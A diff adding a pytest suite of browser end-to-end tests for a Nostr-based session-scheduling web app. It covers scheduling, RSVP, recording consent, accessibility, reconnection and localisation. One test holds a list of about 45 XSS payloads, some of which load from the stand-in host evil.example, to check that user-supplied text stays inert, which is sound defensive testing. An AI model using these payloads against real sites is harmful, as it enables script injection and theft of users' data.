@@ -1,0 +1,501 @@
+"""The page in a real browser, with real keys behind NIP-07, against a daemon that runs as a process."""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import time
+from collections.abc import AsyncIterator
+from contextlib import asynccontextmanager
+from datetime import UTC, datetime, timedelta
+from typing import Any, Final
+
+import httpx
+import msgspec
+import pytest
+
+from podium_daemon.demo.stage import MEETING_URL, Plan, Stage, raised
+from podium_protocol.events import UnsignedEvent
+from podium_protocol.keys import SecretKey
+from podium_protocol.nips import nip98
+from podium_protocol.nips.nip19 import encode_npub
+from tests.support.browsers import Visitor, chromium, visit
+from tests.support.relays import new_key
+from tests.support.until import until
+
+pytestmark = pytest.mark.real_peer
+
+HOOK: Final = [
+    "lesson",
+    "content",
+    "isLoading",
+    "error",
+    "isScheduled",
+    "isLive",
+    "isEnded",
+    "hasRecording",
+    "timeUntilStart",
+    "rsvpStatus",
+    "canRSVP",
+    "rsvp",
+    "isAttending",
+    "attendanceDuration",
+    "joinSession",
+    "leaveSession",
+    "recordingUrl",
+]
+
+PAYLOADS: Final = (
+    "<script>pwned()</script>",
+    "<script src=https://evil.example/x.js></script>",
+    "<img src=x onerror=pwned()>",
+    "<img src=https://evil.example/pixel.png>",
+    "<svg onload=pwned()>",
+    "<svg><script>pwned()</script></svg>",
+    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
+    "<iframe src=javascript:pwned()></iframe>",
+    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
+    "<body onload=pwned()>",
+    "<input autofocus onfocus=pwned()>",
+    "<select autofocus onfocus=pwned()>",
+    "<textarea autofocus onfocus=pwned()>",
+    "<details open ontoggle=pwned()>",
+    "<video src=x onerror=pwned()></video>",
+    "<video poster=https://evil.example/p.png></video>",
+    "<audio src=x onerror=pwned()>",
+    "<object data=javascript:pwned()></object>",
+    "<embed src=https://evil.example/x.swf>",
+    "<a href=javascript:pwned()>click</a>",
+    "<a href='data:text/html,<script>pwned()</script>'>click</a>",
+    "<form action=https://evil.example><button>send</button></form>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<base href=https://evil.example/>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<style>*{background:url(https://evil.example/x)}</style>",
+    "<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror=pwned()>",
+    "<template><script>pwned()</script></template>",
+    "<marquee onstart=pwned()>",
+    "<podium-session reference=x></podium-session>",
+    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
+    "</title><script>pwned()</script>",
+    "</textarea><script>pwned()</script>",
+    "--><script>pwned()</script>",
+    "]]><script>pwned()</script>",
+    "'\"><script>pwned()</script>",
+    '" onmouseover=pwned() x="',
+    "${pwned()} {{pwned()}} <%= pwned() %>",
+    "{{constructor.constructor('pwned()')()}}",
+    "javascript:pwned()//https://example.org",
+    "&lt;script&gt;pwned()&lt;/script&gt;",
+    "&#60;img src=x onerror=pwned()&#62;",
+    "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
+    "＜script＞pwned()＜/script＞",
+)
+
+
+class Here(msgspec.Struct, frozen=True):
+    """A daemon, a browser, and the instructor's key."""
+
+    stage: Stage
+    browser: Any
+    instructor: SecretKey
+
+    async def person(self, secret: SecretKey | None = None, **options: Any) -> Visitor:
+        """Somebody's browser."""
+        return await visit(self.browser, secret, **options)
+
+    async def scheduled(self, *, starts_in: int = 300, **fields: object) -> str:
+        """A session that the instructor published over the interface; the URL of its page."""
+        wish = {"title": "Know your rights", "scheduledAt": int(time.time()) + starts_in, "duration": 60} | fields
+        draft = await self._post("/api/sessions/draft", wish)
+        events = [self._signed(msgspec.convert(template, UnsignedEvent)) for template in draft["events"]]
+        await self._post("/api/events", {"events": events})
+        return f"{self.stage.base_url}/s/{(await self.shown(draft['lessonId']))['naddr']}"
+
+    async def shown(self, reference: str) -> Any:
+        """A session as the interface shows it to anybody."""
+        async with httpx.AsyncClient(trust_env=False) as client:
+            return (await client.get(f"{self.stage.base_url}/api/sessions/{reference}")).raise_for_status().json()
+
+    async def _post(self, path: str, body: object) -> Any:
+        url, raw = f"{self.stage.base_url}{path}", json.dumps(body).encode()
+        nonce = ("nonce", os.urandom(8).hex())
+        login = nip98.write(self.instructor.pubkey, url, "POST", raw, int(time.time()), (nonce,))
+        header = nip98.write_header(self.instructor.sign(login, os.urandom(32)))
+        headers = {"Authorization": header, "Content-Type": "application/json"}
+        async with httpx.AsyncClient(trust_env=False) as client:
+            return (await client.post(url, content=raw, headers=headers)).raise_for_status().json()
+
+    def _signed(self, event: UnsignedEvent) -> object:
+        return json.loads(self.instructor.sign(event, os.urandom(32)).to_json())
+
+
+@asynccontextmanager
+async def _here() -> AsyncIterator[Here]:
+    instructor = new_key()
+    plan = Plan(start_in=600, lasts=60, day=500, hour=400, quarter=300)
+    async with chromium() as browser, raised(plan, instructor=instructor, service=new_key(), relay=None) as stage:
+        yield Here(stage, browser, instructor)
+
+
+@pytest.fixture
+async def here() -> AsyncIterator[Here]:
+    async with _here() as found:
+        yield found
+
+
+async def seen(page: Any, text: str | re.Pattern[str]) -> None:
+    """Wait until a person sees this text."""
+    await page.get_by_text(text).first.wait_for(state="visible")
+
+
+async def press(page: Any, name: str) -> None:
+    """Press the button of this name."""
+    await page.get_by_role("button", name=name, exact=True).click()
+
+
+async def focused(page: Any) -> str:
+    """The name of what has the focus."""
+    text: str = await page.evaluate("document.activeElement.textContent")
+    return text
+
+
+async def tab_to(page: Any, name: str) -> None:
+    """Press Tab until something of this name has the focus."""
+    for _ in range(40):
+        await page.keyboard.press("Tab")
+        if await focused(page) == name:
+            return
+    raise AssertionError(f"Tab never reached {name}")
+
+
+async def test_the_whole_life_of_a_session_on_the_page(here: Here) -> None:
+    """An instructor schedules, starts, admits, ends and downloads; two people answer, wait, sit, leave, come back."""
+    ada, bob = new_key(), new_key()
+    lead, first, second = await here.person(here.instructor), await here.person(ada), await here.person(bob)
+    desk = await _schedule(lead, here.stage.base_url)
+    adas, bobs = await first.open(desk.url), await second.open(desk.url)
+    await _answer(adas, bobs)
+    await press(desk, "Sign in")
+    await seen(desk, "2 people cannot be reached")
+    await seen(desk, "confirmation: undeliverable")
+
+    before = len(first.signed)
+    await _join_with_consent(adas, "No, do not record me")
+    await seen(adas, "You will be let in when the session starts.")
+    (proof,) = first.signed[before:]
+    assert next(tag for tag in proof["tags"] if tag[0] == "recording_consent")[1] == "no"
+    await _let_in(desk, adas)
+    await _join_with_consent(bobs, "Yes, I may be recorded")
+    await seen(bobs, "All seats are taken")
+
+    await press(adas, "Leave")
+    await seen(adas, "You left the room.")
+    await _join_with_consent(adas, "Yes, I may be recorded", button="Join again")
+    await seen(adas, "You are in the room.")
+    assert encode_npub(ada.pubkey) in await _download(desk)
+    await _end(desk, adas, bobs)
+    for visitor in (lead, first, second):
+        assert visitor.errors == []
+        assert visitor.foreign(here.stage.base_url) == []
+        assert visitor.dialogs == []
+
+
+async def _schedule(lead: Visitor, base: str) -> Any:
+    desk = await lead.open(base)
+    await desk.get_by_text("Schedule a session").click()
+    await desk.get_by_label("Title").fill("Leases, clause by clause")
+    await desk.get_by_label("Time zone").fill("UTC")
+    start = (datetime.now(UTC) + timedelta(minutes=5)).strftime("%Y-%m-%dT%H:%M")
+    await desk.get_by_label("Start", exact=True).fill(start)
+    await desk.get_by_label("Seats").fill("1")
+    await desk.get_by_label("Waiting room").check()
+    await desk.get_by_label("May be recorded").check()
+    await press(desk, "Sign and publish")
+    await desk.wait_for_url("**/s/naddr1*")
+    await seen(desk, "1 of 1 seats left.")
+    return desk
+
+
+async def _answer(adas: Any, bobs: Any) -> None:
+    await seen(adas, "Leases, clause by clause")
+    await seen(adas, re.compile(r"Starts in [34]:\d\d"))
+    await press(adas, "Confirm")
+    await seen(adas, "Your answer: confirmed.")
+    await press(bobs, "Confirm")
+    await seen(bobs, "You are number 1 on the waiting list.")
+
+
+async def _join_with_consent(page: Any, answer: str, *, button: str = "Join") -> None:
+    await press(page, button)
+    await seen(page, "is recorded by the host")
+    await press(page, "Join with one signature")
+    assert await page.get_by_role("dialog").is_visible(), "no answer to the recording, no join"
+    await page.get_by_label(answer).check()
+    await press(page, "Join with one signature")
+
+
+async def _let_in(desk: Any, adas: Any) -> None:
+    await press(desk, "Start now")
+    await seen(adas, "The instructor will let you in.")
+    await desk.get_by_role("button", name="Let in: ").click()
+    await seen(adas, "You are in the room.")
+    meeting = adas.get_by_role("link", name="Open the meeting")
+    assert await meeting.get_attribute("href") == MEETING_URL
+    await seen(desk, "1 person is here.")
+
+
+async def _download(desk: Any) -> str:
+    async with desk.expect_download() as coming:
+        await press(desk, "Download CSV")
+    text: str = (await (await coming.value).path()).read_text()
+    return text
+
+
+async def _end(desk: Any, adas: Any, bobs: Any) -> None:
+    await desk.get_by_role("button", name="Remove: ").click()
+    await seen(adas, "You were removed: The instructor removed you from this session.")
+    await press(desk, "End now")
+    await seen(adas, "You attended for")
+    await seen(bobs, "The session has ended.")
+    await seen(bobs, "There is no recording.")
+
+
+async def test_editing_and_cancelling(here: Here) -> None:
+    """The instructor changes a session and cancels it; another person's open page follows, without the controls."""
+    url = await here.scheduled(starts_in=7200)
+    watcher = await here.person(new_key(), locale="de-DE")
+    page = await watcher.open(url)
+    await seen(page, "Kommst du?")
+    await press(page, "Anmelden")
+    await seen(page, "Teilnahme")
+    assert not await page.get_by_text("Diese Veranstaltung leiten").is_visible()
+
+    lead = await here.person(here.instructor)
+    desk = await lead.open(url)
+    await press(desk, "Sign in")
+    await press(desk, "Edit or move")
+    await desk.get_by_label("Title").fill("Know your duties")
+    await desk.get_by_label("Duration in minutes").fill("45")
+    await press(desk, "Sign and publish the change")
+    await seen(page, "Know your duties")
+    await seen(page, "45 Minuten")
+    await desk.locator("button:focus", has_text="Edit or move").wait_for()
+
+    await press(desk, "Cancel …")
+    await desk.get_by_label("Reason (public)").fill("The hall is flooded.")
+    await press(desk, "Cancel the session")
+    await seen(page, "Abgesagt")
+    await seen(page, "fand nicht statt")
+    assert watcher.errors + lead.errors == []
+
+
+async def test_an_answer_by_keyboard_alone(here: Here) -> None:
+    """Tab reaches the buttons in their order, Enter and Space answer, and the focus stays where it was."""
+    visitor = await here.person(new_key())
+    page = await visitor.open(await here.scheduled(starts_in=7200))
+    await seen(page, "Will you come?")
+    await tab_to(page, "Confirm")
+    await page.keyboard.press("Enter")
+    await seen(page, "Your answer: confirmed.")
+    assert await focused(page) == "Confirm"
+    assert await page.get_by_role("button", name="Confirm").get_attribute("aria-pressed") == "true"
+    await page.keyboard.press("Tab")
+    await page.keyboard.press("Tab")
+    assert await focused(page) == "Decline"
+    await page.keyboard.press("Space")
+    await seen(page, "Your answer: declined.")
+    assert await page.get_by_role("button", name="Confirm").get_attribute("aria-pressed") == "false"
+    assert await page.locator("#announcements").text_content() == "Your answer: declined."
+
+
+async def test_a_lost_connection_comes_back_without_a_signature(here: Here) -> None:
+    """A page whose network failed for longer than a seat is kept returns to its seat and its stream by itself."""
+    url = await here.scheduled()
+    lead = await here.person(here.instructor)
+    desk = await lead.open(url)
+    await press(desk, "Sign in")
+    await press(desk, "Start now")
+    await desk.get_by_role("button", name="End now").wait_for()
+    await press(desk, "Join")
+    await press(desk, "Join with one signature")
+    await seen(desk, "You are in the room.")
+    signed = len(lead.signed)
+    await lead.context.set_offline(True)
+
+    async def count() -> int:
+        shown = await here.shown(url.rsplit("/", 1)[1])
+        return int(shown["participantCount"])
+
+    async def gone() -> bool:
+        return await count() == 0
+
+    async def back() -> bool:
+        return await count() == 1
+
+    await until(gone, "the daemon noticed the silence")
+    await lead.context.set_offline(False)
+    await until(back, "the page is back in its seat")
+    await seen(desk, "You are in the room.")
+    assert len(lead.signed) == signed
+
+
+async def test_a_page_that_is_loaded_again_knows_its_person(here: Here) -> None:
+    """Who has signed in stays so when the page is loaded again in the same tab, without another signature."""
+    url = await here.scheduled()
+    visitor = await here.person(new_key())
+    page = await visitor.open(url)
+    await press(page, "Confirm")
+    await seen(page, "Your answer: confirmed.")
+    signed = len(visitor.signed)
+    await page.reload()
+    await seen(page, "Your answer: confirmed.")
+    await page.reload()
+    await seen(page, "Your answer: confirmed.")
+    assert len(visitor.signed) == signed
+    other = await visitor.open(url)
+    await seen(other, "Sign in to see your answer")
+
+
+async def test_a_browser_without_a_signer(here: Here) -> None:
+    """Somebody without an extension reads everything, is told what to install, and an answer says so too."""
+    visitor = await here.person()
+    page = await visitor.open(await here.scheduled())
+    await seen(page, "To answer or join you need a Nostr signer")
+    await press(page, "Tentative")
+    await seen(page, "There is no Nostr extension in this browser.")
+    assert visitor.errors == []
+
+
+async def test_a_signer_that_refuses_or_cheats(here: Here) -> None:
+    """A refused signature is said in words; an event other than the one asked for is not sent on."""
+    url = await here.scheduled()
+    visitor = await here.person(new_key())
+    page = await visitor.open(url)
+    await seen(page, "Will you come?")
+    await page.evaluate("() => { window.nostr.signEvent = async () => { throw new Error('no'); }; }")
+    await press(page, "Confirm")
+    await seen(page, "The extension did not sign. Nothing was sent.")
+    await page.evaluate(
+        "() => { window.nostr.signEvent = async (event) => ({...event, content: 'x', id: '', sig: ''}); }"
+    )
+    await press(page, "Confirm")
+    await seen(page, "The extension signed something else than it was asked for.")
+
+
+@pytest.mark.timeout(240)
+async def test_hostile_texts_stay_text(here: Here) -> None:
+    """No payload in title, summary or description runs, loads anything or makes an element, on either page."""
+    visitor = await here.person(here.instructor)
+    await visitor.context.add_init_script("window.pwned = () => { window.isPwned = true; };")
+    urls = [
+        await here.scheduled(
+            starts_in=7200, title=payload, summary=payload, description=payload, identifier=f"x{index}"
+        )
+        for index, payload in enumerate(PAYLOADS)
+    ]
+    page = await visitor.open(here.stage.base_url)
+    await page.locator("podium-index li").nth(len(PAYLOADS) - 1).wait_for()
+    await _assert_unharmed(page)
+    for url, payload in zip(urls, PAYLOADS, strict=True):
+        await page.goto(url)
+        await page.locator("article").wait_for(state="visible")
+        assert await page.locator("h1").text_content() == payload
+        assert await page.locator("p.lead").text_content() == payload
+        assert await page.locator("div.text").text_content() == payload
+        assert await page.title() == f"{payload} · Podium"
+        await _assert_unharmed(page)
+    assert visitor.dialogs == []
+    assert visitor.errors == []
+    assert visitor.foreign(here.stage.base_url) == []
+
+
+async def _assert_unharmed(page: Any) -> None:
+    elements = "main :is(script, img, svg, iframe, object, embed, video, audio, style, link, meta, base, template)"
+    assert await page.evaluate("window.isPwned") is None
+    assert await page.locator(elements).count() == 0
+    assert await page.locator("main a:not([href^='/']):visible").count() == 0
+
+
+async def test_the_hook_has_the_models_fields(here: Here) -> None:
+    """`useLiveSession` gives exactly the model's fields, the model's content, and a `subscribe` beside them."""
+    visitor = await here.person(new_key())
+    url = await here.scheduled(maxParticipants=5, requiresRSVP=True)
+    page = await visitor.open(url)
+    found = await page.evaluate(
+        """async (reference) => {
+          const { useLiveSession } = await import("/page/use-live-session.js");
+          const hook = useLiveSession(reference);
+          const before = [hook.lesson, hook.content, hook.isLoading, hook.timeUntilStart];
+          await new Promise((done) => { const end = hook.subscribe(() => hook.lesson && (end(), done())); });
+          await hook.rsvp("tentative");
+          return { names: Object.keys(hook), before, title: hook.lesson.title, content: hook.content,
+            flags: [hook.isScheduled, hook.isLive, hook.isEnded, hook.hasRecording, hook.canRSVP, hook.isAttending],
+            rest: [hook.rsvpStatus, hook.error, hook.attendanceDuration, hook.recordingUrl],
+            left: hook.timeUntilStart, left_out: await hook.joinSession() };
+        }""",
+        url.rsplit("/", 1)[1],
+    )
+    assert found["names"] == HOOK
+    assert found["before"] == [None, None, True, None]
+    assert found["title"] == "Know your rights"
+    assert found["content"].pop("conferenceRoomId")
+    assert found["content"].pop("scheduledAt") > time.time()
+    assert found["content"] == {
+        "type": "live-session",
+        "duration": 60,
+        "instructorPubkey": here.instructor.pubkey,
+        "maxParticipants": 5,
+        "requiresRSVP": True,
+    }
+    assert found["flags"] == [True, False, False, False, True, False]
+    assert found["rest"] == ["tentative", None, 0, None]
+    assert 0 < found["left"] <= 300
+    assert found["left_out"] is None, "without a consent nobody joins"
+
+
+async def test_times_on_a_wall_clock(here: Here) -> None:
+    """What people type is read in the session's zone: skipped hours are refused, both sides of a change are right."""
+    visitor = await here.person()
+    page = await visitor.open(here.stage.base_url)
+    asked = {
+        "2026-12-01T18:00 Europe/Berlin": datetime(2026, 12, 1, 17, tzinfo=UTC),
+        "2026-07-01T18:00 America/New_York": datetime(2026, 7, 1, 22, tzinfo=UTC),
+        "2026-03-29T01:59 Europe/Berlin": datetime(2026, 3, 29, 0, 59, tzinfo=UTC),
+        "2026-03-29T02:30 Europe/Berlin": None,
+        "2026-03-29T03:00 Europe/Berlin": datetime(2026, 3, 29, 1, tzinfo=UTC),
+        "2026-10-25T02:30 Europe/Berlin": datetime(2026, 10, 25, 0, 30, tzinfo=UTC),
+        "2026-10-25T03:30 Europe/Berlin": datetime(2026, 10, 25, 2, 30, tzinfo=UTC),
+        "2026-01-01T00:00 Pacific/Kiritimati": datetime(2025, 12, 31, 10, tzinfo=UTC),
+        "2026-01-01 UTC": None,
+    }
+    found = await page.evaluate(
+        """async (asked) => {
+          const { fromWallClock } = await import("/page/times.js");
+          return asked.map((one) => fromWallClock(...one.split(" ")));
+        }""",
+        list(asked),
+    )
+    assert found == [None if at is None else int(at.timestamp()) for at in asked.values()]
+
+
+async def test_an_unknown_session_in_german(here: Here) -> None:
+    """The page for a session that is not here speaks the visitor's language."""
+    visitor = await here.person(locale="de-CH")
+    page = await visitor.open(f"{here.stage.base_url}/s/nothing")
+    await seen(page, "Diese Veranstaltung gibt es hier nicht")
+    assert await page.locator("html").get_attribute("lang") == "de"
+
+
+async def test_nothing_sticks_out(here: Here) -> None:
+    """On a phone's width and on a desk's nothing has to be scrolled sideways, even with a title of one long word."""
+    url = await here.scheduled(title="W" * 150, waitingRoom=True)
+    for width in (320, 390, 1280):
+        visitor = await here.person(here.instructor, viewport={"width": width, "height": 800})
+        page = await visitor.open(url)
+        await press(page, "Sign in")
+        await press(page, "Edit or move")
+        await seen(page, "Sign and publish the change")
+        assert await page.evaluate("document.documentElement.scrollWidth") <= width
